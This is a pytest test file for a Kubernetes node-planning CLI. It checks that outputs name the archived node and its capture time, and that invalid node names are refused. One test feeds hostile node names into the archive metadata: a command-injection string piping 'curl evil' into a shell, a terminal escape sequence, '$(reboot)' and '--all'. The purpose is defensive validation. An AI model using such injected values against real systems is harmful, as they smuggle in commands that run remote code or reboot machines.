"""Answers about a node archive name its node, and when it was captured."""

from __future__ import annotations

import json
import shutil
import socket
from pathlib import Path

import pytest
from tests.cli.command import EXAMPLES, PODS, mooring
from tests.cli.made_up_node import make_root

NODE = ("--node", EXAMPLES / "node")
TITLE = "edge-7, captured 2026-09-14T07:30:00Z"
TEXTS = [
    ("plan", *PODS),
    ("show",),
    ("show", "-o", "svg"),
    ("show", "-o", "html"),
    ("topology",),
    ("explain", *PODS),
    ("explain", *PODS, "-o", "svg"),
    ("whatif", *PODS),
    ("whatif", *PODS, "--set", "topologyManagerPolicy=none"),
    ("capacity", "--shape", "cpu=1,memory=1Gi"),
    ("compare", *PODS, "--all-options"),
    ("resize", *PODS, "core/upf-0/forwarder", "--cpu", "4"),
    ("doctor",),
    ("doctor", "--lint"),
    ("publish", "--dry-run"),
]


@pytest.mark.parametrize("command", TEXTS, ids=" ".join)
def test_texts_and_pictures_name_the_node_and_the_time(command: tuple[str, ...]) -> None:
    answered = mooring(*command, *NODE, columns=200)
    assert answered.code in (0, 1), answered.err
    assert TITLE in answered.out


@pytest.mark.parametrize("command", [TEXTS[0], TEXTS[7], TEXTS[9], TEXTS[12]], ids=" ".join)
def test_documents_have_a_finding_about_the_archive(command: tuple[str, ...]) -> None:
    document = mooring(*command, *NODE, "-o", "json").document
    (found,) = [one for one in document["findings"] if one["code"] == "MOOR-583"]
    assert (found["severity"], found["subject"]) == ("info", "edge-7")
    assert document["machine"] == TITLE


def test_what_is_published_has_the_name_of_the_archives_node(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("NODE_NAME", raising=False)
    names = {
        item["metadata"]["name"] for item in mooring("publish", "--dry-run", *NODE, "-o", "json").document["items"]
    }
    assert "edge-7" in names
    assert socket.gethostname().lower() not in names
    given = mooring("publish", "--dry-run", *NODE, "--node-name", "other", "-o", "json").document["items"]
    assert "other" in {item["metadata"]["name"] for item in given}


def test_collect_writes_when_it_was(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = make_root(tmp_path / "root")
    collected = ("collect", "--root", root, "--no-kubectl", "--node-name", "n1", "--dry-run", "-o", "json")
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "86400")
    assert json.loads(mooring(*collected).out)["captured"] == "1970-01-02T00:00:00Z"
    monkeypatch.delenv("SOURCE_DATE_EPOCH")
    assert json.loads(mooring(*collected).out)["captured"] > "2026"


@pytest.mark.parametrize("name", ["edge-7; curl evil|sh #", "\x1b]0;owned\x07", "$(reboot)", "--all"])
@pytest.mark.parametrize("verb", ["migrate", "doctor", "show"])
def test_an_archive_of_a_node_that_no_node_is_called_is_refused(name: str, verb: str, tmp_path: Path) -> None:
    node = tmp_path / "node"
    shutil.copytree(EXAMPLES / "node", node)
    about = json.loads((node / "mooring-node.json").read_text(encoding="utf-8"))
    (node / "mooring-node.json").write_text(json.dumps(about | {"node": name}), encoding="utf-8")
    answered = mooring(verb, "--node", node)
    assert (answered.code, answered.out) == (2, "")
    assert "mooring-node.json" in answered.complaint
    assert "node: " in answered.complaint
    assert "is not a valid name; " in answered.complaint
